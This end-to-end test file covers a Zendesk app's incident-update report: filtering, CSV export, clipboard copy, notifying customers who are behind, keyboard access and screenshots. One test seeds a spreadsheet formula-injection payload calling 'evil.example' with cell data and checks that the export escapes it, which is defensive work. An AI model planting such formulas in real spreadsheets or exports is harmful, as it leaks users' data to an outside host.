import { mkdirSync, readFileSync } from 'node:fs';
import { readCsv } from '../domain/readCsv.ts';
import { change, write } from './stories/lead.ts';
import { faultsOfPage, fitsItsFrame } from './stories/looks.ts';
import { modalOf } from './stories/modal.ts';
import { expect, test } from './stories/story.ts';

const SCREENS = new URL('../../test-results/screens/', import.meta.url).pathname;
mkdirSync(SCREENS, { recursive: true });

test.use({ hurry: 3 });

test('who was not told, and why: found in the list and opened beside it', async ({
  story: { seed, sitDown },
}) => {
  const desk = await sitDown(seed.incidentA);
  await desk.at('all-reports').click();
  const modal = modalOf(desk);
  await expect(modal.at('reading')).toContainText('40 tickets, read');
  await expect(modal.at('show-told')).toHaveText('Told33');
  await modal.at('show-cannot').click();
  await expect(modal.at('report-row')).toHaveCount(4);
  await expect(modal.at('reasons')).toHaveText('4 can’t be told: 2 messaging, 1 closed, 1 merged');

  await modal.at('report-filter').fill(`#${seed.closed}`);
  const row = modal.at('report-row');
  await expect(row).toHaveCount(1);
  await expect(row).toContainText('closed');
  await modal.button(`Open ticket #${seed.closed}`).click();
  await expect(desk.page).toHaveURL(new RegExp(`#/tickets/${seed.closed}`));
  await expect(desk.page.locator('[data-test-id="modal-frame"]')).toHaveCount(0);
});

test('the list as a file, in which customers’ texts stay texts', async ({
  story: { world, seed, sitDown },
}) => {
  const behind = seed.behind[0] ?? 0;
  const evil = '=HYPERLINK("https://evil.example/?"&A1,"Refund"), 50 € “now”';
  change(world, behind, { subject: evil });
  const desk = await sitDown(seed.incidentA);
  await desk.at('all-reports').click();
  const modal = modalOf(desk);
  await expect(modal.at('reading')).toContainText('40 tickets, read');
  await modal.at('show-behind').click();
  await expect(modal.at('rows-shown')).toHaveText('3 tickets shown');
  const [download] = await Promise.all([desk.page.waitForEvent('download'), modal.at('csv').click()]);
  expect(download.suggestedFilename()).toBe(`allclear-${seed.incidentA}-update-3.csv`);
  const text = readFileSync(await download.path(), 'utf8');
  expect(text.startsWith('\ufeff')).toBe(true);
  const [head, ...rows] = readCsv(text);
  expect(head).toEqual([
    ...['Ticket', 'Customer', 'Subject', 'Language', 'Channel', 'Status', 'Last told', 'Update 3'],
    ...['Why not', 'What Zendesk said'],
  ]);
  expect(rows).toHaveLength(3);
  expect(rows.map(([id]) => Number(id))).toEqual(expect.arrayContaining(seed.behind));
  const [, name, subject, , , , told, standing] = rows.find(([id]) => Number(id) === behind) ?? [];
  expect(name).toBe(world.user(world.ticket(behind).requesterId).name);
  expect(subject).toBe(`'${evil}`);
  expect([told, standing]).toEqual(['update 2', 'Behind']);

  // Pasted, it is the same table.
  await desk.page.context().grantPermissions(['clipboard-read']);
  await modal.at('copy').click();
  await expect(modal.at('exported')).toContainText('3 rows copied.');
  const pasted = await desk.page.evaluate(() => navigator.clipboard.readText());
  expect(pasted.split(/\r?\n/)[0]?.split('\t')).toEqual(head);
});

test('where Zendesk’s frame forbids files, copying is offered instead', async ({
  story: { world, seed, sitDown },
}) => {
  world.settings.framesMayDownload = false;
  const desk = await sitDown(seed.incidentA);
  let saved = 0;
  desk.page.on('download', () => (saved += 1));
  await desk.at('all-reports').click();
  const modal = modalOf(desk);
  await expect(modal.at('reading')).toContainText('40 tickets, read');
  await modal.at('csv').click();
  await expect(modal.at('exported')).toContainText('If no file appears, Zendesk’s frame forbids it');
  await modal.at('copy').click();
  await expect(modal.at('exported')).toContainText('40 rows copied.');
  expect(saved).toBe(0);
});

test('the gap is closed: those who are behind are told once, and the list says so', async ({
  story: { world, seed, sitDown },
}) => {
  const desk = await sitDown(seed.incidentA);
  await desk.at('all-reports').click();
  const modal = modalOf(desk);
  await modal.button('Tell the other 3 customers').click();
  await expect(modal.at('telling')).toContainText('Update 3 has reached', { timeout: 40_000 });
  await expect(modal.at('show-told')).toHaveText('Told36');
  await expect(modal.at('show-behind')).toHaveText('Behind0');
  await expect(modal.at('close-the-gap')).toHaveCount(0);
  for (const id of seed.behind) {
    expect(world.valueOf(id, 'allclear_told')).toBe(`${seed.incidentA}/3`);
    const deeds = world.ticket(id).audits.map(({ custom }) => custom?.allclear as { n?: number } | undefined);
    expect(deeds.filter((deed) => deed?.n === 3)).toEqual([{ did: 'told', incident: seed.incidentA, n: 3 }]);
  }
});

test('by keyboard alone: to the table, through it, and into a ticket', async ({
  story: { seed, sitDown },
}) => {
  const desk = await sitDown(seed.incidentA);
  await desk.at('all-reports').click();
  const modal = modalOf(desk);
  await expect(modal.at('reading')).toContainText('40 tickets, read');
  await modal.at('report-filter').focus();
  await desk.page.keyboard.press('Tab');
  await expect(modal.at('report-table')).toBeFocused();
  await desk.page.keyboard.press('End');
  const last = modal.app.locator('[aria-selected="true"]');
  await expect(last).toHaveAttribute('aria-rowindex', '41');
  await expect(last).toBeInViewport();
  const id = await last.getByRole('button').textContent();
  // The modal closes while the key is down, so nobody hears it come up.
  void desk.page.keyboard.press('Enter').catch(() => undefined);
  await expect(desk.page).toHaveURL(new RegExp(`#/tickets/${id?.slice(1)}`));
});

test('the list looks right: light and dark, wide and narrow, right to left', async ({
  story: { world, seed, sitDown },
}) => {
  write(world, seed.reportsA[0] ?? 0, { allclear_told: null });
  seed.tom.locale = 'ar';
  const looks = [
    { name: 'light', agent: 'mara', scheme: 'light', width: 1440 },
    { name: 'dark', agent: 'mara', scheme: 'dark', width: 1440 },
    { name: 'narrow-rtl', agent: 'tom', scheme: 'light', width: 356 },
  ] as const;
  for (const { name, agent, scheme, width } of looks) {
    const desk = await sitDown(seed.incidentA, agent, { scheme });
    await desk.at('all-reports').click();
    const modal = modalOf(desk);
    await expect(modal.at('refresh')).toBeVisible();
    await expect(modal.at('close-the-gap')).toBeEnabled();
    await desk.page.setViewportSize({ width, height: 950 });
    await modal.at('update-choice').selectOption('2');
    await expect(modal.at('earlier-update')).toContainText(agent === 'mara' ? 'Update 2 was posted' : '2');
    const frame = await modal.frame();
    expect.soft(await faultsOfPage(frame)).toEqual([]);
    expect.soft(await fitsItsFrame(frame)).toEqual([]);
    await desk.page.screenshot({ path: `${SCREENS}reports-${name}.png` });
    await modal.at('update-choice').selectOption('3');
    await modal.at('show-cannot').click();
    await desk.page.screenshot({ path: `${SCREENS}reports-${name}-cannot.png` });
  }
});
